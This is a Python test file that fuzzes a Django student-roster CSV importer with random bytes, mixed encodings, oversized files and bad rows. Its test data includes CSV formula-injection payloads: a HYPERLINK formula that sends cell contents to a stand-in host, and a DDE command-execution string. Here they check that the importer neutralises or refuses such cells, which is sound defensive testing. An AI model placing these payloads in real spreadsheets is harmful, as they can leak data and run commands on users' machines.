"""Hypothesis on the SIS importer: random bytes, wrong encodings, huge files and formula payloads in the
cells never crash it, never write a partial import, and the pages answer in French."""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from sis import roster
from sis.base import schools_for
from sis.tests.rosters import HEADER, born, good_lines
from students.models import Student

FUZZ = hsettings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck), database=None)
WRITES = ("INSERT", "UPDATE", "DELETE")
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "-2+3"]
ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16", "mac_roman", "cp850"]


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def plan_without_writing(data: bytes, schools) -> roster.RosterPlan:
    with CaptureQueriesContext(connection) as queries:
        plan = roster.plan_file(data, schools=schools)
    written = [q["sql"] for q in queries if q["sql"].lstrip().upper().startswith(WRITES)]
    assert not written, written
    return plan


def assert_reported_in_french(plan: roster.RosterPlan) -> None:
    assert plan.errors
    for error in plan.errors:
        assert str(error).strip()


@FUZZ
@given(st.binary(max_size=6000))
def test_random_bytes_are_reported_never_crash_and_write_nothing(cast, data):
    plan = plan_without_writing(data, schools_for(cast.manager))
    if not plan.is_valid:
        assert_reported_in_french(plan)


CELL = st.one_of(st.text(max_size=40), st.sampled_from(FORMULAS), st.sampled_from(["", "751001", born(12)]))


@FUZZ
@given(
    rows=st.lists(st.lists(CELL, min_size=0, max_size=12), max_size=8),
    encoding=st.sampled_from(ENCODINGS),
    separator=st.sampled_from([";", ",", "\t", "|"]),
)
def test_any_table_in_any_encoding_is_planned_without_writing(cast, rows, encoding, separator):
    text = "\n".join([HEADER.replace(";", separator), *(separator.join(r) for r in rows)])
    data = text.encode(encoding, errors="replace")
    plan = plan_without_writing(data, schools_for(cast.manager))
    if not plan.is_valid:
        assert_reported_in_french(plan)


@FUZZ
@given(name=st.sampled_from(FORMULAS), encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp1252"]))
def test_formula_payloads_in_cells_are_imported_as_plain_text_or_refused(cast, name, encoding):
    line = f"BOUE12345601;{name};Éloïse;{born(13)};F;751001;Sec 1;101;;0"
    data = "\n".join([HEADER, line, ""]).encode(encoding)
    plan = plan_without_writing(data, schools_for(cast.manager))
    if plan.is_valid:
        roster.apply_plan(cast.manager, plan)
        stored = Student.objects.get(code_permanent="BOUE12345601")
        assert stored.last_name == name.strip()  # kept as text; lib.spreadsheet neutralises it on export
        stored.delete()
    else:
        assert_reported_in_french(plan)


@FUZZ
@given(bad=st.sampled_from(["", "pas une date", "99/99/2020", "X" * 400]), where=st.integers(0, 30))
def test_one_bad_row_among_good_ones_writes_nothing_at_all(client, cast, bad, where):
    lines = [f"TEST{n:04d}5601;Nom{n};Prénom;{born(10)};F;751001;P5;501;;0" for n in range(31)]
    lines[where] = f"TEST{where:04d}5601;Nom;Prénom;{bad};F;751001;P5;501;;0"
    client.force_login(cast.manager)
    data = "\n".join([HEADER, *lines, ""]).encode()
    upload = SimpleUploadedFile("eleves.csv", data, content_type="text/csv")
    assert client.post(reverse("sis:import"), {"kind": "eleves", "file": upload}).status_code == 302
    preview = client.get(reverse("sis:preview"))
    assert preview.status_code == 200 and preview.context["errors"]
    client.post(reverse("sis:confirm"))
    assert Student.objects.count() == 3


def test_a_file_over_the_limit_is_refused_in_french_and_not_kept(client, cast, settings):
    settings.SIS_IMPORT_MAX_BYTES = 2048
    client.force_login(cast.manager)
    data = "\n".join([HEADER, *(good_lines() * 40)]).encode()
    response = client.post(
        reverse("sis:import"), {"kind": "eleves", "file": SimpleUploadedFile("e.csv", data)}
    )
    assert response.status_code == 200
    assert "dépasse la taille permise" in response.content.decode()
    assert not (settings.MEDIA_ROOT / "imports").exists() or not any(
        (settings.MEDIA_ROOT / "imports").iterdir()
    )


def test_a_huge_file_of_garbage_is_reported_without_crashing(cast):
    data = b"\n".join([HEADER.encode(), *(b"x;" * 12 for _ in range(60_000))])  # ~1.4 MB, 60 000 lines
    plan = plan_without_writing(data, schools_for(cast.manager))
    assert not plan.is_valid and plan.errors
    assert Student.objects.count() == 3
